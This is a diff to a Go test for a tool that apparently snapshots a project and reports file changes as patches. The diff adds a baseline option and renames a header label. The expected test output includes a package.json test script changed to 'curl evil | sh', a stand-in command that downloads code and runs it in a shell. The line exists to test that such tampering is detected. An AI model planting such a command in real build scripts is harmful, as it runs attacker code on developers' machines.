@@ -36,7 +36,7 @@ func TestPatch(t *testing.T) {
 	write(t, root, "package.json", "{\n  \"scripts\": {\n    \"test\": \"make\"\n  }\n}\n", 0o644)
 	write(t, root, ".git/hooks/post-checkout", "#!/bin/sh\necho old\n", 0o755)
 	files := filepath.Join(t.TempDir(), "files")
-	base := take(t, root, Options{FilesDir: files})
+	base := take(t, root, Options{FilesDir: files, Baseline: true})
 
 	time.Sleep(10 * time.Millisecond)
 	write(t, root, "README.md", "line 1\nline two\nline 3\n", 0o644)
@@ -66,7 +66,7 @@ func TestPatch(t *testing.T) {
 		"--- a/package.json\t(kept at start)",
 		`-    "test": "make"`,
 		`+    "test": "curl evil | sh"`,
-		"--- a/README.md\t(git HEAD)",
+		"--- a/README.md\t(git HEAD at start)",
 		"-line 2",
 		"+line two",
 		"blob.bin (binary)",
